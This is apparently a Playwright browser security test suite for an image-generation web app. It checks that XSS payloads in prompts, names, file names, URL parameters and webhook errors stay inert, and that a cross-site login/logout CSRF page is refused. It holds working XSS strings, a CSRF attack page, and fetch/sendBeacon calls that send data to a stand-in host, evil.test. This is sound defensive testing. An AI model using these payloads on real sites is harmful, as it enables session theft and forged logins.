"""The pages as somebody meets them who wants to do harm, in a real browser: what people write stays text, the walls
around the pages hold, and other sites get nothing done."""

import io
import json
import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import httpx
import psycopg
from PIL import Image
from playwright.sync_api import Browser, Page, expect

from core.sealing import Keyring
from local.fal.webhooks import Signer
from local.ports import HOST
from tests.browser.conftest import Site, come_in, go, settle, sign_in

EVIL = (
    '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>'
    "[click](javascript:window.hacked=1)<svg onload=window.hacked=1>"
)
NAME = '"><img src=x onerror=window.hacked=1>'
FILE_NAME = "<img src=x onerror=window.hacked=1>.png"
LONG = 90_000  # milliseconds: an upper bound against hanging, not a measure


def harmless(page: Page) -> None:
    """Nothing of what was written has become part of the page."""
    assert page.evaluate("window.hacked") is None
    for selector in (
        'img[src="x"]',
        "[onerror]",
        "[onload]",
        'a[href^="javascript:" i]',
        "main script:not([src='/app/static/pulse.js'],[src='/app/static/keys.js'])",
    ):
        expect(page.locator(selector)).to_have_count(0)


def ask(site: Site, query: str, *values: object) -> tuple[object, ...]:
    with psycopg.connect(site.database_url, autocommit=True) as connection:
        row = connection.execute(query.encode(), values).fetchone()
    assert row
    return row


def fail_with(site: Site, signer: Signer, job: object, request: str, reason: str) -> None:
    """fal.ai's webhook: the job has failed, for this reason."""
    detail = [{"loc": ["body", reason], "msg": reason, "type": "value_error"}]
    payload = {"request_id": request, "status": "ERROR", "error": reason, "payload": {"detail": detail}}
    ask(
        site, "update private.provider_state set account_id = null returning 1"
    )  # this one signs as an account of its own
    body, token = json.dumps(payload).encode(), Keyring([site.environment["APP_SECRET"]]).token_for(str(job))
    address = f"{site.companion}/webhooks/fal?job={job}&token={token}"
    assert httpx.post(address, content=body, headers=signer.headers(request, body), timeout=30).status_code == 200


def test_what_people_write_stays_text(
    new_marketer: Callable[..., tuple[Page, str]], admin_page: Page, site: Site, stack_directory: Path
) -> None:
    page, email = new_marketer(50)
    ask(site, "update public.profiles set full_name = %s where email = %s returning 1", NAME, email)
    for prompt in (EVIL, f"{EVIL} [sim:queue=600]"):
        go(page, "/")
        page.get_by_role("textbox", name="Prompt").fill(prompt)
        page.get_by_role("textbox", name="Prompt").press("Tab")
        settle(page)
        harmless(page)
        page.get_by_role("button", name="Generate 2 images").click()
        expect(page.get_by_text(re.compile("on its way|on their way|Running now", re.I)).first).to_be_visible()
        settle(page)

    # A file whose name is markup, as the picture that another is made from.
    page.get_by_test_id("stSelectbox").first.click()
    page.get_by_role("option", name=re.compile("from a picture", re.I)).first.click()
    settle(page)
    page.get_by_role("button", name="Add a source picture").click()
    picture = io.BytesIO()
    Image.new("RGB", (128, 128), "red").save(picture, "PNG")
    file = {"name": FILE_NAME, "mimeType": "image/png", "buffer": picture.getvalue()}
    page.locator("input[type=file]").first.set_input_files([file])  # type: ignore[list-item]
    expect(page.get_by_text("onerror").first).to_be_visible()
    settle(page)
    harmless(page)

    query = "select j.id, j.fal_request_id from generation_jobs j join profiles p using (user_id) where p.email = %s"
    job, request = ask(site, f"{query} and prompt like '%%queue%%'", email)
    fail_with(site, Signer(stack_directory / "fal"), job, str(request), EVIL)
    go(page, "/jobs")
    expect(page.get_by_text("onerror").first).to_be_visible(timeout=LONG)
    harmless(page)
    go(page, f"/jobs?job={job}")
    expect(page.get_by_text("onerror").first).to_be_visible()
    harmless(page)
    for view in (f"/jobs?text={NAME}", f"/?error={EVIL}&notice={EVIL}", f"/credits?checkout={EVIL}&order={NAME}"):
        go(page, view)
        harmless(page)

    go(page, "/campaigns")
    page.get_by_role("button", name=re.compile("New campaign|Start a campaign")).click()
    settle(page)
    for box, text in (("Name", NAME), ("Brief", EVIL)):
        page.get_by_role("textbox", name=box, exact=True).fill(text)
        page.keyboard.press("Tab")
        settle(page)
    page.get_by_role("button", name="Create campaign").click()
    settle(page)
    expect(page.get_by_role("heading", name="onerror")).to_be_visible()
    harmless(page)
    go(page, "/campaigns")
    expect(page.get_by_text("onerror").first).to_be_visible()
    harmless(page)

    for section in ("People", "Jobs", "Webhooks", "Trail", "Spend"):
        go(admin_page, f"/admin?section={section}")
        harmless(admin_page)


def test_the_walls_around_the_pages(
    new_marketer: Callable[..., tuple[Page, str]], new_page: Callable[..., Page], browser: Browser, site: Site
) -> None:
    _, email = new_marketer(0)
    page = new_page()
    sign_in(page, email)
    answer = page.goto("/jobs")
    assert answer is not None
    headers = answer.headers
    assert headers["x-frame-options"] == "SAMEORIGIN"
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "same-origin"
    assert headers["cross-origin-opener-policy"] == "same-origin"
    assert "script-src 'self'" in headers["content-security-policy"]
    assert "microphone=(self)" in headers["permissions-policy"]
    settle(page)
    (cookie,) = [cookie for cookie in page.context.cookies() if cookie["name"] == "atelier_session"]
    assert (cookie["httpOnly"], cookie["sameSite"], cookie["path"]) == (True, "Lax", "/")
    assert cookie["value"] not in page.evaluate("document.cookie")
    assert cookie["value"] not in page.evaluate("JSON.stringify({...localStorage, ...sessionStorage})")
    assert cookie["value"] not in page.content()

    # Should markup ever get into a page: its scripts do not run, and nothing leaves. In a browser of its own, since
    # the others must have nothing to refuse.
    context = browser.new_context(base_url=site.url)
    try:
        torn = context.new_page()
        come_in(torn, site, email)
        reached: list[str] = []
        torn.route("https://evil.test/**", lambda route: (reached.append(route.request.url), route.abort())[1])
        torn.evaluate(
            """() => {
                const add = (html) => document.body.append(document.createRange().createContextualFragment(html));
                add('<script>window.hacked = "inline"</script>');
                add('<script src="https://evil.test/a.js"></script>');
                add('<img src="x" onerror="window.hacked = \\'handler\\'">');
                add('<img src="https://evil.test/stolen.png">');
                add('<iframe src="https://evil.test/"></iframe>');
                fetch("https://evil.test/stolen").catch(() => 0);
                navigator.sendBeacon("https://evil.test/stolen");
            }"""
        )
        torn.wait_for_timeout(1000)
        assert torn.evaluate("window.hacked") is None
        assert reached == []
    finally:
        context.close()


ATTACK = """<body><form id="out" method="post" action="{site}/session/logout" target="first"></form>
<form id="in" method="post" action="{site}/session/login" target="second">
<input name="email" value="{email}"><input name="password" value="an attacker's password"></form>
<iframe name="first"></iframe><iframe name="second"></iframe><iframe id="framed" src="{site}/jobs"></iframe><script>
document.getElementById("out").submit(); document.getElementById("in").submit();
fetch("{site}/jobs", {{credentials: "include"}}).then(() => document.title = "read", () => document.title = "refused");
</script>"""


@contextmanager
def other_site(html: str) -> Iterator[str]:
    """The address of a page that is not ours: to a browser `localhost` is another site than 127.0.0.1."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(html.encode())

        def log_message(self, *_arguments: object) -> None:
            """Quiet."""

    with ThreadingHTTPServer((HOST, 0), Handler) as server:
        thread = Thread(target=server.serve_forever, args=(0.02,))
        thread.start()
        yield f"http://localhost:{server.server_port}/"
        server.shutdown()
        thread.join()


def test_another_site_gets_nothing_done(
    new_marketer: Callable[..., tuple[Page, str]], browser: Browser, site: Site
) -> None:
    """Somebody is signed in here and opens a page of somebody else's in the same browser."""
    _, email = new_marketer(0)
    context = browser.new_context(base_url=site.url)
    try:
        page = context.new_page()
        sign_in(page, email)
        before = [cookie for cookie in context.cookies() if cookie["name"] == "atelier_session"]
        answers: dict[str, int] = {}
        evil = context.new_page()
        evil.on("response", lambda answer: answers.update({answer.url.removeprefix(site.url): answer.status}))
        with other_site(ATTACK.format(site=site.url, email=email)) as address:
            evil.goto(address)
            expect(evil).to_have_title("refused")
            evil.wait_for_timeout(1000)
        assert (answers["/session/logout"], answers["/session/login"]) == (403, 403)
        assert all(frame.locator('[data-testid="stApp"]').count() == 0 for frame in evil.frames)
        assert [cookie for cookie in context.cookies() if cookie["name"] == "atelier_session"] == before
        go(page, "/jobs")
        expect(page.get_by_role("heading", name="Jobs", exact=True)).to_be_visible()
    finally:
        context.close()
